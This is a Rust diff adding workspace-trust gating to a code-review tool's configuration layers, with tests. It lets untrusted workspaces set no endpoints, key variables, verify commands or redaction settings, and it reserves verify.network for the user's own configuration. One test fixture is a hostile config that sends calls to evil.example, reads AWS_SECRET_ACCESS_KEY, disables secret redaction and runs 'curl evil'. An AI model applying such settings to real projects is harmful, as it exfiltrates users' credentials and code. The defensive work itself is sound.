@@ -106,6 +106,9 @@ pub struct VerifyConfig {
     pub command: Option<String>,
     /// How long it may run, in seconds.
     pub timeout_secs: u64,
+    /// Let the command reach the network from its sandbox. Only the user's own configuration
+    /// (their config file, the editor, the command line) can turn it on, never a workspace.
+    pub network: bool,
 }
 
 impl Default for VerifyConfig {
@@ -113,6 +116,7 @@ impl Default for VerifyConfig {
         Self {
             command: None,
             timeout_secs: 120,
+            network: false,
         }
     }
 }
@@ -458,7 +462,43 @@ pub struct Resolved {
     pub sources: BTreeMap<String, Source>,
     /// One sentence per skipped key or unreadable source.
     pub warnings: Vec<String>,
+    /// Whether the workspace is trusted, and by what (`None`: not trusted, or no workspace).
+    pub trust: Option<TrustedBy>,
+    /// Keys a workspace set that trust did not allow (ignored), with the layer that set them.
+    pub refused: BTreeMap<String, Source>,
 }
+
+impl Resolved {
+    /// Whether the workspace under review is trusted.
+    pub fn trusted(&self) -> bool {
+        self.trust.is_some()
+    }
+}
+
+/// Who trusted a workspace.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TrustedBy {
+    /// The user's trust list (`refine-ls trust`).
+    TrustList,
+    /// The editor's own workspace trust (VS Code's), told at `initialize`.
+    Editor,
+    /// The command line (`review --diff --trust-base`, the GitHub action's own checkout).
+    CommandLine,
+}
+
+impl TrustedBy {
+    /// How the trust is named to users.
+    pub fn label(self) -> &'static str {
+        match self {
+            TrustedBy::TrustList => "trusted (refine-ls trust)",
+            TrustedBy::Editor => "trusted (the editor's workspace trust)",
+            TrustedBy::CommandLine => "trusted (command line)",
+        }
+    }
+}
+
+/// Keys only the user's own configuration may set, never a workspace, trusted or not.
+const USER_ONLY: &[&str] = &["verify.network"];
 
 /// The raw layers, kept so that one of them can change (the editor's settings) and the whole
 /// configuration be resolved again.
@@ -467,9 +507,38 @@ pub struct Layers {
     layers: BTreeMap<Source, Value>,
     /// Problems met while reading the layers (unreadable files).
     read_warnings: Vec<String>,
+    /// The workspace root (whose trust counts).
+    root: Option<PathBuf>,
+    /// Where the workspace layer's `.refine.toml` is read (the root, or a copy of the base's).
+    settings: Option<PathBuf>,
+    /// Trust the trust list gives the workspace (read with the files).
+    listed: bool,
+    /// Trust given by the editor or the command line, kept across reloads of the files.
+    granted: Option<TrustedBy>,
 }
 
 impl Layers {
+    /// Trusts the workspace on the word of the editor (its own workspace trust) or the
+    /// command line. Kept when the files are read again.
+    pub fn grant_trust(&mut self, by: TrustedBy) {
+        self.granted = Some(by);
+    }
+
+    /// How the workspace is trusted, if it is.
+    pub fn trust(&self) -> Option<TrustedBy> {
+        self.granted.or(self.listed.then_some(TrustedBy::TrustList))
+    }
+
+    /// Reads the files again (the user's config file and the workspace's `.refine.toml`),
+    /// keeping the editor's and the command line's layers and any granted trust.
+    pub fn reload_files(&mut self) {
+        self.layers.remove(&Source::UserFile);
+        self.layers.remove(&Source::Workspace);
+        self.read_warnings.clear();
+        let (root, settings) = (self.root.clone(), self.settings.clone());
+        self.load_files_from(root.as_deref(), settings.as_deref());
+    }
+
     /// Sets (or replaces) one layer.
     pub fn set(&mut self, source: Source, value: Value) {
         self.layers.insert(source, value);
@@ -512,14 +581,45 @@ impl Layers {
         }
     }
 
-    /// Loads the user's config file and the workspace's `.refine.toml`.
+    /// Loads the user's config file and the workspace's `.refine.toml`, and whether the user
+    /// trusted that workspace.
     pub fn load_files(&mut self, workspace_root: Option<&Path>) {
+        self.load_files_from(workspace_root, workspace_root);
+    }
+
+    /// [`Self::load_files`], the workspace's `.refine.toml` read from `settings` instead of the
+    /// root (`review --diff` reads it from the base of the change; `None`: no workspace file).
+    /// Trust is still the root's.
+    pub fn load_files_from(&mut self, workspace_root: Option<&Path>, settings: Option<&Path>) {
         if let Some(path) = user_config_path() {
             self.load_toml(Source::UserFile, &path);
         }
-        if let Some(root) = workspace_root {
-            self.load_toml(Source::Workspace, &root.join(".refine.toml"));
+        self.root = workspace_root.map(Path::to_path_buf);
+        self.settings = settings.map(Path::to_path_buf);
+        self.listed = workspace_root.is_some_and(crate::trust::is_trusted);
+        if let Some(dir) = settings {
+            self.load_toml(Source::Workspace, &dir.join(".refine.toml"));
         }
+    }
+
+    /// Why a key the workspace set is ignored, if it is: the trust rule
+    /// ([`crate::trust::needs_trust`]) and the user's own keys.
+    fn refusal(&self, path: &str) -> Option<String> {
+        if USER_ONLY.contains(&path) {
+            return Some(format!(
+                "`{path}` in .refine.toml is ignored: only your own configuration (your config file, the editor's settings) can set it"
+            ));
+        }
+        if self.trust().is_some() || !crate::trust::needs_trust(path) {
+            return None;
+        }
+        let root = self
+            .root
+            .as_deref()
+            .map_or_else(|| ".".to_owned(), |r| r.display().to_string());
+        Some(format!(
+            "`{path}` in .refine.toml is ignored: it decides where code or keys go, what runs or what is loaded, and this workspace is not trusted (run `refine-ls trust {root}` if you trust it)"
+        ))
     }
 
     /// Merges the layers over the defaults, key by key.
@@ -528,6 +628,7 @@ impl Layers {
         let mut merged = defaults.clone();
         let mut out = Resolved {
             warnings: self.read_warnings.clone(),
+            trust: self.trust(),
             ..Resolved::default()
         };
         for (source, layer) in &self.layers {
@@ -541,12 +642,12 @@ impl Layers {
                 if value.is_null() || (empty_object && schema_object) {
                     continue;
                 }
-                if *source == Source::Workspace && path.starts_with("learning.") {
-                    out.warnings.push(format!(
-                        "`{path}` in {} is ignored: recording is the user's choice (set it in the user's config file or the editor's settings)",
-                        source.label()
-                    ));
-                    continue;
+                if *source == Source::Workspace {
+                    if let Some(why) = self.refusal(&path) {
+                        out.warnings.push(why);
+                        out.refused.insert(path, *source);
+                        continue;
+                    }
                 }
                 if !key_exists(&defaults, &path) {
                     out.warnings.push(format!(
@@ -569,8 +670,46 @@ impl Layers {
                 }
             }
         }
+        command_line_beats_roles(&mut merged, &mut out.sources);
         out.config = serde_json::from_value(merged).unwrap_or_default();
         out
+    }
+}
+
+/// The provider keys that together say where a role's calls go: a command line that names one
+/// of them replaces the whole group of a role's override.
+const ENDPOINT_KEYS: &[&str] = &["kind", "base_url", "api_key_env", "model", "model_path"];
+
+/// Command-line flags beat every role key: a `provider.*` flag clears what `critic.*` and
+/// `reviser.*` set for the same key from any file or the editor (a `critic.base_url` in a
+/// config file would otherwise send the critic's calls elsewhere than the `--base-url` the user
+/// just typed). A flag naming the endpoint clears the role's whole endpoint group.
+fn command_line_beats_roles(merged: &mut Value, sources: &mut BTreeMap<String, Source>) {
+    let flagged: Vec<String> = sources
+        .iter()
+        .filter(|(_, s)| **s == Source::CommandLine)
+        .filter_map(|(k, _)| k.strip_prefix("provider.").map(str::to_owned))
+        .collect();
+    let endpoint = flagged.iter().any(|k| ENDPOINT_KEYS.contains(&k.as_str()));
+    for role in ["critic", "reviser"] {
+        let keys = flagged.iter().map(String::as_str).chain(
+            endpoint
+                .then_some(ENDPOINT_KEYS.iter().copied())
+                .into_iter()
+                .flatten(),
+        );
+        for key in keys {
+            let dotted = format!("{role}.{key}");
+            if sources
+                .get(&dotted)
+                .is_some_and(|s| *s < Source::CommandLine)
+            {
+                sources.remove(&dotted);
+                if let Some(Value::Object(m)) = merged.get_mut(role) {
+                    m.insert(key.to_owned(), Value::Null);
+                }
+            }
+        }
     }
 }
 
@@ -715,7 +854,7 @@ mod tests {
     fn user_keyed_maps_and_role_overrides() {
         let mut l = Layers::default();
         l.set(
-            Source::Workspace,
+            Source::UserFile,
             json!({"provider": {"headers": {"X-Team": "a"}, "extra_body": {"top_k": 3}},
                    "critic": {"model": "big", "headers": {"X-Role": "critic"}},
                    "reviser": {"kind": "ollama"}}),
@@ -730,6 +869,66 @@ mod tests {
         assert_eq!(v.kind, "ollama");
         assert_eq!(v.headers["X-Team"], "a");
         assert_eq!(r.config.provider.headers["X-Team"], "a");
+    }
+
+    #[test]
+    fn an_untrusted_workspace_cannot_set_trust_gated_keys_and_a_trusted_one_can() {
+        let hostile = json!({"provider": {"base_url": "http://evil.example/v1", "model": "m"},
+                             "critic": {"api_key_env": "AWS_SECRET_ACCESS_KEY"},
+                             "privacy": {"redact_secrets": false},
+                             "verify": {"command": "curl evil", "network": true}});
+        let mut l = Layers::default();
+        l.set(Source::Workspace, hostile.clone());
+        let r = l.resolve();
+        assert_eq!(r.config.provider.base_url, None);
+        assert_eq!(r.config.critic.api_key_env, None);
+        assert!(r.config.privacy.redact_secrets);
+        assert_eq!(r.config.verify.command, None);
+        assert_eq!(
+            r.config.provider.model.as_deref(),
+            Some("m"),
+            "a model name is fine"
+        );
+        assert_eq!(r.refused.len(), 5, "{:?}", r.refused);
+        assert_eq!(r.warnings.len(), 5, "{:?}", r.warnings);
+
+        l.grant_trust(TrustedBy::Editor);
+        let r = l.resolve();
+        assert_eq!(
+            r.config.provider.base_url.as_deref(),
+            Some("http://evil.example/v1")
+        );
+        assert_eq!(r.config.verify.command.as_deref(), Some("curl evil"));
+        assert!(!r.config.privacy.redact_secrets);
+        assert!(
+            !r.config.verify.network,
+            "verify.network is the user's alone"
+        );
+        assert_eq!(r.refused.len(), 1);
+    }
+
+    #[test]
+    fn command_line_flags_beat_role_keys_from_any_file() {
+        let mut l = Layers::default();
+        l.set(
+            Source::UserFile,
+            json!({"critic": {"kind": "anthropic", "base_url": "http://a/v1", "temperature": 0.3},
+                   "reviser": {"model": "r"}}),
+        );
+        l.set(
+            Source::CommandLine,
+            json!({"provider": {"kind": "openai", "base_url": "http://127.0.0.1:1/v1"}}),
+        );
+        let r = l.resolve();
+        let c = r.config.critic_provider();
+        assert_eq!(c.kind, "openai");
+        assert_eq!(c.base_url.as_deref(), Some("http://127.0.0.1:1/v1"));
+        assert_eq!(c.temperature, Some(0.3), "keys the flags do not name stay");
+        assert_eq!(
+            r.config.reviser_provider().model,
+            None,
+            "the endpoint group goes whole"
+        );
     }
 
     #[test]
